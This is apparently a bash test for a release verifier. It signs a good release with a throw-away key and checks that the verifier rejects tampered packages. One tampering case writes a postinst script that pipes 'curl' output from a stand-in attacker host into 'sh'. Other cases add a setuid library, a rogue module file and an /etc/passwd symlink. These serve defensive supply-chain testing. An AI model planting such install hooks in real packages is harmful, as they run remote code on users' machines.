#!/usr/bin/env bash
# tools/verify-release.sh (craton-admin verify-release) against a real release: the good
# release, signed with a throw-away OpenPGP key, passes; tampered copies fail, naming the
# artifact and the difference. Each attacker is consistent: after the change, release.json's
# package contents and hashes and SHA256SUMS are rewritten to match (reseal, lib.sh).
# Usage: tests/release/verifier.sh DIST     (a directory made by tools/release.sh)
# Needs CRATON_ADMIN (a craton-admin built from this checkout) and gpg.
set -euo pipefail
HERE=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
# shellcheck source=tests/release/lib.sh
. "$HERE/lib.sh"
REPO=$(cd "$HERE/../.." && pwd)
VERIFY=$REPO/tools/verify-release.sh
DIST=$(cd "${1:?usage: $0 DIST}" && pwd)
: "${CRATON_ADMIN:?set CRATON_ADMIN to a craton-admin built from this checkout}"
export CRATON_ADMIN
WORK=$(mktemp -d "${TMPDIR:-/tmp}/craton-verifier-test.XXXXXX")
trap 'rm -rf "$WORK"' EXIT
COMMIT=$(jq -r .commit "$DIST/release.json")
DEB=$(cd "$DIST" && ls -- *.deb | head -n1)
RPM=$(cd "$DIST" && ls -- *.rpm | head -n1)

# Throw-away publisher and attacker keys.
export GNUPGHOME=$WORK/gnupg
mkdir -m 0700 "$GNUPGHOME"
gpg -q --batch --passphrase '' --quick-gen-key 'Craton test publisher <pub@craton-hsm.invalid>' ed25519 sign never 2>/dev/null
gpg -q --batch --passphrase '' --quick-gen-key 'Mallory <m@evil.invalid>' ed25519 sign never 2>/dev/null
gpg -q --export --armor 'pub@craton-hsm.invalid' >"$WORK/publisher.asc"
sign_as() { # KEY DIR: what tools/sign-release.sh does
    local f
    for f in SHA256SUMS release.json; do
        rm -f "$2/$f.asc"
        gpg -q --batch --local-user "$1" --armor --detach-sign -o "$2/$f.asc" "$2/$f"
    done
}
SIGNED=$WORK/signed
cp -a "$DIST" "$SIGNED"
"$REPO/tools/sign-release.sh" --local-user pub@craton-hsm.invalid "$SIGNED" >/dev/null

# Runs the verifier on a fresh copy of the signed release after $2 (a function) changed it;
# checks the exit status ($3: 0 or 1) and that each further argument is in the output.
case_() {
    local name=$1 mutate=$2 want=$3 d rc=0 pattern
    shift 3
    d=$WORK/$name
    cp -a "$SIGNED" "$d"
    "$mutate" "$d"
    "$VERIFY" "$d" --repo "$REPO" --commit "$COMMIT" --keyring "$WORK/publisher.asc" >"$WORK/$name.log" 2>&1 || rc=$?
    if [ "$want" = 0 ] && [ "$rc" -ne 0 ]; then
        cat "$WORK/$name.log" >&2; fail "$name: the verifier failed (exit $rc) on a good release"
    fi
    if [ "$want" != 0 ] && [ "$rc" -eq 0 ]; then
        cat "$WORK/$name.log" >&2; fail "$name: the verifier passed a tampered release"
    fi
    for pattern in "$@"; do
        grep -qF -- "$pattern" "$WORK/$name.log" || { cat "$WORK/$name.log" >&2; fail "$name: output lacks: $pattern"; }
    done
    pass "$name: exit $rc$([ $# -eq 0 ] || printf ', reports: %s' "$(printf '"%s" ' "$@")")"
    rm -rf "$d"
}

# Repacks the deb of release $1 after running $2 on its unpacked tree (DEBIAN/ included).
repack_deb() {
    local x=$1/.x
    dpkg-deb -R "$1/$DEB" "$x"
    "$2" "$x"
    (cd "$x" && find . -path ./DEBIAN -prune -o -path ./etc -prune -o -type f -printf '%P\n' | LC_ALL=C sort |
        xargs md5sum) >"$x/DEBIAN/md5sums"
    dpkg-deb --root-owner-group -b "$x" "$1/$DEB" >/dev/null
    rm -rf "$x"
}

nothing() { :; }
add_postinst() { printf '#!/bin/sh\ncurl -s http://evil.invalid | sh\n' >"$1/DEBIAN/postinst"; chmod 0755 "$1/DEBIAN/postinst"; }
add_file() { mkdir -p "$1/usr/share/p11-kit/modules"; echo "module: /tmp/evil.so" >"$1/usr/share/p11-kit/modules/evil.module"; }
chmod_lib() { chmod 4755 "$(find "$1" -name libcraton_hsm.so)"; }
add_depends() { sed -i 's/^Depends: .*/&, evil-helper/' "$1/DEBIAN/control"; }
other_variant() { # the other variant's package name (its deb, renamed to this one's file)
    local p other
    p=$(sed -n 's/^Package: //p' "$1/DEBIAN/control")
    case "$p" in craton-hsm) other=craton-hsm-fips ;; *) other=craton-hsm ;; esac
    sed -i "s/^Package: .*/Package: $other/; s/^Conflicts: .*/Conflicts: $p/; s/^Replaces: .*/Replaces: $p/" "$1/DEBIAN/control"
}
deb_postinst() { repack_deb "$1" add_postinst; reseal "$1"; }
deb_extra_file() { repack_deb "$1" add_file; reseal "$1"; }
deb_mode() { repack_deb "$1" chmod_lib; reseal "$1"; }
deb_depends() { repack_deb "$1" add_depends; reseal "$1"; }
deb_other_variant() { repack_deb "$1" other_variant; reseal "$1"; }
deb_postinst_unsealed() { repack_deb "$1" add_postinst; regen_sums "$1"; }
lib_and_hmac_replaced() {
    flip_comment_byte "$1/libcraton_hsm.so"
    "$REPO/tools/compute-integrity-hmac.sh" "$1/libcraton_hsm.so" >/dev/null
    reseal "$1"
}
edit_json() { jq "$2" "$1/release.json" >"$1/j" && mv "$1/j" "$1/release.json"; regen_sums "$1"; }
json_commit() { edit_json "$1" '.commit = "1111111111111111111111111111111111111111"'; }
json_version() { edit_json "$1" '.version = "9.9.9"'; }
json_variant() { edit_json "$1" 'if .variant == "fips" then .variant = "default" else .variant = "fips" end'; }
symlink() { ln -s /etc/passwd "$1/passwd"; }
subdir() { mkdir "$1/extra"; }
dup_sums() { head -n1 "$1/SHA256SUMS" >>"$1/SHA256SUMS"; }
dotdot_sums() { echo x >"$1/../outside"; echo "$(sha256sum <"$1/../outside" | cut -d' ' -f1)  ../outside" >>"$1/SHA256SUMS"; }
stand_in_dll() {
    head -c 1024 /dev/urandom >"$1/craton_hsm.dll"
    "$REPO/tools/compute-integrity-hmac.sh" "$1/craton_hsm.dll" >/dev/null
    jq '.windows = {"dll": "craton_hsm.dll", "built_here": false}' "$1/release.json" >"$1/j" && mv "$1/j" "$1/release.json"
    reseal "$1"
}
bad_signature() { echo "# tampered" >>"$1/SHA256SUMS"; }
unknown_key() { deb_postinst "$1"; sign_as m@evil.invalid "$1"; }

case_ good nothing 0 "verify-release: OK" "ok:   SHA256SUMS.asc: good signature of SHA256SUMS by Craton test publisher"
case_ deb-postinst deb_postinst 1 "FAIL: $DEB: script postinst is not allowed by the release policy"
case_ deb-postinst-unsealed deb_postinst_unsealed 1 "FAIL: $DEB: script postinst (sha256" "is not declared in release.json"
case_ deb-extra-file deb_extra_file 1 "FAIL: $DEB: /usr/share/p11-kit/modules/evil.module: file not allowed by the release policy"
case_ deb-mode deb_mode 1 "libcraton_hsm.so: mode 4755, the release policy says 0644"
case_ deb-depends deb_depends 1 "FAIL: $DEB: Depends: \"evil-helper\" is not allowed by the release policy"
case_ deb-other-variant deb_other_variant 1 "FAIL: $DEB: package name is"
case_ lib-and-hmac-replaced lib_and_hmac_replaced 1 "FAIL: SHA256SUMS.asc: SHA256SUMS: BAD signature" \
    "libcraton_hsm.so: sha256" "differs from the release's libcraton_hsm.so" \
    "does not name the library's SHA-256"
case_ json-commit json_commit 1 "FAIL: release.json: commit 1111111111111111111111111111111111111111, but the commit being verified is $COMMIT"
case_ json-version json_version 1 "FAIL: release.json: version 9.9.9, the commit's Cargo.toml says"
case_ json-variant json_variant 1 "FAIL: release.json: cargo_features"
case_ symlink symlink 1 "FAIL: passwd: is a symlink (-> /etc/passwd)"
case_ subdir subdir 1 "FAIL: extra: is a subdirectory"
case_ dup-sums dup_sums 1 "is listed twice"
case_ dotdot-sums dotdot_sums 1 '"../outside" is not a plain file name of the release directory'
case_ stand-in-dll stand_in_dll 1 "FAIL: craton_hsm.dll: not a PE32+ image"
case_ bad-signature bad_signature 1 "FAIL: SHA256SUMS.asc: SHA256SUMS: BAD signature: made by key"
case_ unknown-key unknown_key 1 "FAIL: SHA256SUMS.asc: SHA256SUMS: signed by an unknown key" \
    "FAIL: $DEB: script postinst is not allowed by the release policy"
echo "verifier test: OK"
